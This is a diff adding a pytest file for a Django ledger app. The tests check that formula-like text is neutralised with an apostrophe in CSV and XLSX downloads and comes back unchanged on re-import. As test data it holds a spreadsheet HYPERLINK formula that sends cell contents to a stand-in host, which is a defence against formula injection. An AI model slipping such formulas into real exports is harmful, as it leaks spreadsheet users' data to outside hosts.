@@ -1,0 +1,105 @@
+"""Text that a spreadsheet would compute: neutralised in downloads, and read back as it was."""
+
+import io
+import zipfile
+from datetime import date
+from decimal import Decimal
+
+import pytest
+from django.db.models import Value
+from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
+
+from carsi_tracker.ledger import posting
+from carsi_tracker.ledger.formulas import escaped, unescaped
+from carsi_tracker.ledger.models import Batch, Entry, Line, Posting
+from carsi_tracker.reports.downloads.fields import Neutralised
+from tests import factories
+from tests.imports.conftest import Way, case
+from tests.reports.downloads.files import body, rows, sheets
+
+pytestmark = pytest.mark.usefixtures("sourced")
+
+
+@given(st.text("'=+-@\t\r Aé1", max_size=6))
+def test_the_apostrophe_comes_off_again(text: str) -> None:
+    assert unescaped(escaped(text)) == text
+    assert escaped(text)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
+
+
+def test_the_database_puts_the_apostrophe_where_the_importer_takes_it_off() -> None:
+    starts = ("", "'", "''", " ", "A", "A'")
+    texts = [
+        f"{start}{sign}1" for start in starts for sign in ("=", "+", "-", "@", "\t", "\r", "é")
+    ]
+    columns = {f"text{n}": Neutralised(Value(text)) for n, text in enumerate(texts)}
+    written = Posting.objects.annotate(**columns).values_list(*columns)[0]
+    assert list(written) == [escaped(text) for text in texts]
+
+
+@pytest.fixture
+def formulas(command: Way) -> Batch:
+    """Amounts whose texts a spreadsheet would compute, posted."""
+    made = command("formulas.csv", case("formulas.csv")).batch
+    assert made
+    with posting.acting(made.created_by):
+        Line.objects.filter(batch=made, locator="-2+3").update(quote="''=1+1")
+    factories.posted(made)
+    return made
+
+
+FORMULA = '=HYPERLINK("http://example.org/?x="&A2,"open")'
+
+
+def test_text_that_a_spreadsheet_would_compute_has_an_apostrophe_in_csv(
+    client: Client, formulas: Batch
+) -> None:
+    first, second = rows(client, "/tables/entries.csv?date_from=2010-03-15&date_to=2010-03-15")
+    assert first["note"] == f"'{FORMULA}"
+    assert first["locator"] == "'-2+3"
+    assert first["quote"] == "'''=1+1"
+    assert first["amount_usd"] == "-10000.00"
+    assert second["title"] == "'@Puesto fronterizo, Honduras"
+    assert second["partner"] == "'+504 Fundación"
+    assert second["note"] == "'-"
+    names = [row["title"] for row in rows(client, "/tables/commitments.csv")]
+    assert "'@Puesto fronterizo, Honduras" in names
+    negative = [row for row in rows(client, "/tables/entries.csv") if row["amount_usd"][0] == "-"]
+    assert any(row["amount_usd"] == "-6750000.00" for row in negative)
+
+
+def test_the_same_text_is_text_in_a_workbook_and_amounts_are_numbers(
+    client: Client, formulas: Batch
+) -> None:
+    address = "/tables/entries.xlsx?date_from=2010-03-15&date_to=2010-03-15"
+    (headings, first, second), _about = sheets(client, address)
+    cells = dict(zip(headings, first, strict=True))
+    assert cells["note"] == FORMULA
+    assert cells["locator"] == "-2+3"
+    assert cells["quote"] == "''=1+1"
+    assert Decimal(str(cells["amount_usd"])) == -10000
+    assert not isinstance(cells["amount_usd"], str)
+    assert cells["effective_date"] == date(2010, 3, 15)
+    assert "+504 Fundación" in second
+    with zipfile.ZipFile(io.BytesIO(body(client.get(address)))) as parts:
+        assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
+        assert b"hyperlink" not in parts.read("xl/worksheets/sheet1.xml")
+
+
+@pytest.mark.parametrize("kind", ["csv", "xlsx"])
+def test_importing_a_download_gives_the_original_back(
+    client: Client, command: Way, formulas: Batch, kind: str
+) -> None:
+    version = Posting.objects.get(batch=formulas).version
+    file = body(client.get(f"/tables/entries.{kind}?posted_in={version}"))
+    outcome = command(f"again.{kind}", file, new=True)
+    assert outcome.accepted, outcome.said
+    compared = (
+        "commitment", "stage", "amount", "effective_date", "document", "locator", "basis", "note",
+        "quote",
+    )  # fmt: skip
+    posted = Entry.objects.filter(posting=version).values_list(*compared)
+    drafted = Line.objects.filter(batch=outcome.batch).order_by("pk").values_list(*compared)
+    assert list(drafted) == list(posted)
+    assert len(drafted) == 2
